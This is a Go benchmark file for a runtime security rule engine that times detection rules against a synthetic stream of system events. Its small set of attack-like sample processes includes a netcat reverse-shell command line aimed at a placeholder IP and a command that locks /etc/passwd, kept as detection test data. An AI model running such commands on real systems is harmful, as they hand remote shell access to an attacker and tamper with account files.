package ruleset

import (
	"fmt"
	"math/rand/v2"
	"net/netip"
	"runtime"
	"syscall"
	"testing"
	"time"

	"github.com/ttpwatch/ttpwatch/event"
)

// eventMix builds a deterministic, realistic event mix: mostly opens by
// ordinary programs, then process lifecycle (clone/exec/exit), connects and
// a tail of other syscalls; about 1% of events are attack-like and match.
func eventMix(n int) []*event.Event {
	rng := rand.New(rand.NewPCG(1, 2))
	initP := &event.Process{Pid: 1, Comm: "systemd", Exe: "/sbin/init", ExePath: "/usr/lib/systemd/systemd",
		Cmdline: "systemd", ContainerID: "host", UserName: "root"}
	sshd := &event.Process{Pid: 800, Ppid: 1, Comm: "sshd", ExePath: "/usr/sbin/sshd", Cmdline: "sshd: alice",
		ContainerID: "host", UserName: "root", Parent: initP}
	bash := &event.Process{Pid: 900, Ppid: 800, Comm: "bash", Exe: "-bash", ExePath: "/usr/bin/bash", Cmdline: "bash",
		Uid: 1000, Tty: 34816, ContainerID: "host", UserName: "alice", Parent: sshd}
	shim := &event.Process{Pid: 3000, Ppid: 1, Comm: "containerd-shim", ExePath: "/usr/bin/containerd-shim-runc-v2",
		ContainerID: "host", UserName: "root", Parent: initP}
	mk := func(pid uint32, comm, exe, args string, parent *event.Process, uid uint32, container string) *event.Process {
		return &event.Process{Pid: pid, Ppid: parent.Pid, Comm: comm, Exe: exe, ExePath: exe, ArgLine: args,
			Cmdline: comm + " " + args, Uid: uid, UserName: map[uint32]string{0: "root", 1000: "alice", 33: "www-data"}[uid],
			ContainerID: container, Parent: parent, CapEffective: 0}
	}
	nginx := mk(1200, "nginx", "/usr/sbin/nginx", "-g daemon off;", initP, 33, "host")
	ordinary := []*event.Process{
		mk(1001, "ls", "/usr/bin/ls", "-la", bash, 1000, "host"),
		mk(1002, "cat", "/usr/bin/cat", "README.md", bash, 1000, "host"),
		mk(1003, "grep", "/usr/bin/grep", "-r TODO .", bash, 1000, "host"),
		mk(1004, "git", "/usr/bin/git", "status", bash, 1000, "host"),
		mk(1005, "python3", "/usr/bin/python3", "manage.py runserver", bash, 1000, "host"),
		mk(1006, "node", "/usr/bin/node", "server.js", shim, 0, "3ad7b26ded6d"),
		mk(1007, "systemd-journal", "/usr/lib/systemd/systemd-journald", "", initP, 0, "host"),
		mk(1008, "cron", "/usr/sbin/cron", "-f", initP, 0, "host"),
		mk(1009, "sshd", "/usr/sbin/sshd", "-D", initP, 0, "host"),
		mk(1010, "java", "/usr/bin/java", "-jar app.jar", shim, 0, "9f1c2e3d4b5a"),
		mk(1011, "postgres", "/usr/lib/postgresql/16/bin/postgres", "-D /var/lib/postgresql", initP, 0, "host"),
		nginx,
		bash,
	}
	attacks := []*event.Process{
		mk(2001, "chattr", "/usr/bin/chattr", "+i /etc/passwd", bash, 1000, "host"),
		mk(2002, "nc", "/usr/bin/nc", "-e /bin/sh 203.0.113.9 4444", bash, 1000, "host"),
		mk(2003, "sh", "/bin/sh", "-c id", nginx, 33, "host"),
		mk(2004, "whoami", "/usr/bin/whoami", "", bash, 1000, "host"),
	}
	files := []string{"/etc/ld.so.cache", "/usr/lib/x86_64-linux-gnu/libc.so.6", "/proc/self/stat",
		"/home/alice/project/main.go", "/var/lib/postgresql/16/main/base/1/1259", "/etc/nsswitch.conf",
		"/usr/share/zoneinfo/UTC", "/dev/null", "/sys/fs/cgroup/cpu.max", "/var/log/nginx/access.log",
		"/tmp/tmp.3kd9", "/etc/passwd", "/run/systemd/journal/socket"}
	remotes := []netip.AddrPort{netip.MustParseAddrPort("10.0.0.7:5432"), netip.MustParseAddrPort("140.82.112.3:443"),
		netip.MustParseAddrPort("1.1.1.1:53"), netip.MustParseAddrPort("192.168.1.20:8080")}
	pick := func(ps []*event.Process) *event.Process { return ps[rng.IntN(len(ps))] }
	evs := make([]*event.Event, 0, n)
	for i := 0; i < n; i++ {
		ev := &event.Event{Num: uint64(i), Time: int64(1_700_000_000_000_000_000 + i*1000)}
		r := rng.IntN(1000)
		p := pick(ordinary)
		switch {
		case r < 10: // attack-like
			p = attacks[rng.IntN(len(attacks))]
			ev.Type = event.TypeExecve
		case r < 520: // opens
			ev.Type = event.TypeOpenat
			ev.Path = files[rng.IntN(len(files))]
			ev.Fd = int64(3 + rng.IntN(20))
			ev.Res = ev.Fd
			if rng.IntN(5) == 0 {
				ev.Flags = 0x1 | 0x40 | 0x400 // O_WRONLY|O_CREAT|O_APPEND
			}
			if rng.IntN(10) == 0 {
				ev.Res, ev.Fd = -2, -1
			}
		case r < 620:
			ev.Type = event.TypeExecve
		case r < 720:
			ev.Type = event.TypeClone
		case r < 800:
			ev.Type = event.TypeProcexit
		case r < 900:
			ev.Type = event.TypeConnect
			ev.Fd = 5
			ev.Sock = event.Sock{Family: event.AFInet, Type: 1, Role: event.RoleClient,
				Local: netip.MustParseAddrPort("192.168.1.10:40000"), Remote: remotes[rng.IntN(len(remotes))]}
		case r < 940:
			ev.Type = event.TypeUnlinkat
			ev.Path = "/tmp/tmp.3kd9"
		case r < 970:
			ev.Type = event.TypeSocket
			ev.Sock = event.Sock{Family: event.AFInet, Type: 1}
		default:
			ev.Type = event.TypeDup2
			ev.Fd, ev.Fd2 = 3, 1
		}
		ev.Proc = p
		ev.Tid = p.Pid
		evs = append(evs, ev)
	}
	return evs
}

// threadCPU returns the CPU time the calling OS thread has used, so the
// benchmark can report events per CPU-second, which stays meaningful on a
// loaded machine where wall-clock ns/op includes time spent preempted.
func threadCPU() time.Duration {
	var ru syscall.Rusage
	if err := syscall.Getrusage(rusageThread, &ru); err != nil {
		return 0
	}
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}

// rusageThread is RUSAGE_THREAD (Linux).
const rusageThread = 1

// BenchmarkEngineMix evaluates the event mix against the embedded default
// ruleset and against the Falco-style rules of testdata/engine. One op is
// one event: ns/op is wall time per event; events/cpu-s is events per
// second of CPU time of the evaluating thread (events/s per core); run with
// -cpu 1.
func BenchmarkEngineMix(b *testing.B) {
	defaults, err := LoadDefaults()
	if err != nil {
		b.Fatal(err)
	}
	falco, err := LoadPaths("testdata/engine/falco_style.yaml")
	if err != nil {
		b.Fatal(err)
	}
	for _, set := range []struct {
		name  string
		rules []*Rule
	}{{"defaults", defaults.Rules}, {"falco-style", falco.Rules}} {
		b.Run(fmt.Sprintf("%s-%drules", set.name, len(set.rules)), func(b *testing.B) {
			e, err := NewEngine(set.rules, DefaultOptions())
			if err != nil {
				b.Fatal(err)
			}
			const n = 4096
			evs := eventMix(n)
			matches := 0
			emit := func(Match) { matches++ }
			for _, ev := range evs {
				e.Process(ev, emit)
			}
			matched := float64(matches) / n * 100
			runtime.LockOSThread()
			defer runtime.UnlockOSThread()
			b.ReportAllocs()
			cpu0 := threadCPU()
			i := 0
			for b.Loop() {
				e.Process(evs[i&(n-1)], emit)
				i++
			}
			b.ReportMetric(matched, "%matched")
			if cpu := threadCPU() - cpu0; cpu > 0 {
				b.ReportMetric(float64(i)/cpu.Seconds(), "events/cpu-s")
			}
		})
	}
}
